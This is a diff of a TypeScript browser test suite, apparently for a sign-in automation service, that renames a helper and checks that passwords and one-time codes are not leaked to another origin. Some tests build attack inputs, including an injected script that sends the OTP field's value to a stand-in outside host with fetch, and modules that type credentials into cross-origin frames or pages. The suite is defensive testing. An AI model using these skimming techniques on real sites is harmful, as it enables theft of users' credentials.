@@ -158,7 +158,7 @@ const ATTACKS: readonly (readonly [name: string, fault: () => Fault, withoutScri
   ],
 ];
 
-async function judge(
+async function evaluate(
   browser: Browser | undefined,
   change: Partial<ConfigurationFile> = {},
   files: Readonly<Record<string, string>> = {},
@@ -186,12 +186,12 @@ function expectNothingTaken({ exitCode, troubles }: Results): void {
 for (const [[name, fault, withoutScript], details] of firstInTest(ATTACKS, 3)) {
   test(`${name} gets no password from the browser`, details, async ({ browser }) => {
     service.suffer(fault());
-    expectNothingTaken(await judge(browser));
+    expectNothingTaken(await evaluate(browser));
   });
   if (!withoutScript) continue;
   test(`${name} gets no password from the form agent`, async () => {
     service.suffer(fault());
-    expectNothingTaken(await judge(undefined));
+    expectNothingTaken(await evaluate(undefined));
   });
 }
 
@@ -212,14 +212,14 @@ test.describe('one-time codes', () => {
   test('are not typed on a page elsewhere', async ({ browser }) => {
     elsewhere.show = page({ fields: code });
     service.suffer(sentOn('GET /oauth/authorize', 302));
-    expectNothingTaken(await judge(browser, codes('[name=otp]')));
+    expectNothingTaken(await evaluate(browser, codes('[name=otp]')));
   });
 
   test('are not sent elsewhere by a script', async ({ browser }) => {
     const send = script(`document.querySelector('[name=otp]').addEventListener('change', (e) =>
       fetch('${elsewhere.origin}/?c=' + e.target.value, { mode: 'no-cors' }))`);
     service.suffer(shown(page({ fields: code, also: send })));
-    expectNothingTaken(await judge(browser, codes('[name=otp]')));
+    expectNothingTaken(await evaluate(browser, codes('[name=otp]')));
   });
 });
 
@@ -232,7 +232,11 @@ test.describe('a sign-in module', () => {
   test('is handed nothing on a page elsewhere', async ({ browser }) => {
     elsewhere.show = page();
     service.suffer(sentOn('GET /oauth/authorize', 302));
-    const results = await judge(browser, withModule, module('await page.fill("[name=password]", password)'));
+    const results = await evaluate(
+      browser,
+      withModule,
+      module('await page.fill("[name=password]", password)'),
+    );
     expectNothingTaken(results);
   });
 
@@ -241,7 +245,7 @@ test.describe('a sign-in module', () => {
     service.suffer(shown(`<input name=password><iframe src="${elsewhere.origin}"></iframe>`));
     const body = `const field = page.frameLocator('iframe').locator('[name=password]');
       try { await type(field, 'x' + password) } catch {}`;
-    expectNothingTaken(await judge(browser, withModule, module(body)));
+    expectNothingTaken(await evaluate(browser, withModule, module(body)));
   });
 
   test('that goes elsewhere by itself gets no one-time code there', PROVE, async ({ browser }) => {
@@ -249,14 +253,14 @@ test.describe('a sign-in module', () => {
     service.suffer(shown(page()));
     const owner = { login: 'o@x.test', totpSecret: { env: 'STAGING_TOTP_SECRET' } };
     const body = `await page.goto('${elsewhere.origin}'); await page.fill('[name=otp]', await totp())`;
-    expectNothingTaken(await judge(browser, { ...withModule, owner }, module(body)));
+    expectNothingTaken(await evaluate(browser, { ...withModule, owner }, module(body)));
   });
 
   test('that types by itself into a form that is sent elsewhere sends nothing', async ({ browser }) => {
     service.suffer(shown(page().replace('/sign-in', elsewhere.origin)));
     const body = `await page.fill('[name=password]', password); await page.click('button', { noWaitAfter: true });
       await new Promise((resolve) => setTimeout(resolve, 300))`;
-    expectNothingTaken(await judge(browser, withModule, module(body)));
+    expectNothingTaken(await evaluate(browser, withModule, module(body)));
   });
 });
 
@@ -337,7 +341,7 @@ test.describe('harmless:', () => {
     elsewhere.show = page().replace('/sign-in', `${service.settings.authUrl}/nowhere`);
     service.suffer(sentOn('GET /oauth/authorize', 302));
     const { signIn } = service.settings;
-    const results = await judge(browser, { signIn: { ...signIn, origins: [`${elsewhere.origin}/`] } });
+    const results = await evaluate(browser, { signIn: { ...signIn, origins: [`${elsewhere.origin}/`] } });
     expect(results.troubles.map(({ message }) => message).join()).not.toContain('`signIn.origins`');
     expect(service.asked).toContain('POST /nowhere');
   });
